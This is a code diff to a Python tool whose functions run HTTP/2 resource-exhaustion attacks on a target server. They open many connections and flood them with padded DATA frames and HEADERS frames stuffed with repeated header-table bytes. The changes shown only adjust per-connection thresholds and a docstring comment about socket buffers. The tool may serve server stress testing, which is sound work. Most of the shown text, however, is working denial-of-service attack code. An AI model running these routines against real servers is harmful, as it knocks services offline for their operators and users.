@@ -67,7 +67,7 @@ class Client:
 def attack(target, count, act, settings=b"", reads=True, most=None):
     """Calls `act(client)` for the next bytes of each of `count` connections. Replaces closed connections.
 
-    A connection that takes the bytes of more than `most` acts is a gain.
+    A connection that takes the bytes of more than `most` acts is a gain. Socket buffers take up to 10 MB of them.
     """
     clients = []
     while not target.is_over:
@@ -301,7 +301,7 @@ def padded_content(target, count):
             start = frame(HEADERS, END_HEADERS, 1, request(b"/echo", b"POST"))
         return start + frame(DATA, PADDED, 1, b"\0") * 1500
 
-    attack(target, count, act, most=300)
+    attack(target, count, act, most=1000)
 
 
 def referring_heads(target, count):
@@ -312,7 +312,7 @@ def referring_heads(target, count):
             frame(HEADERS, END_STREAM | END_HEADERS, stream, SMALL + bytes([0x90]) * 7000) for stream in client.next_streams(5)
         )
 
-    attack(target, count, act, most=100)
+    attack(target, count, act, most=400)
 
 
 def refused_heads(target, count):
@@ -327,7 +327,7 @@ def refused_heads(target, count):
             frame(HEADERS, END_STREAM | END_HEADERS, stream, request() + b"\xbe" * 60) for stream in client.next_streams(50)
         )
 
-    attack(target, count, act, most=300)
+    attack(target, count, act)
 
 
 def large_heads(target, count, kind):
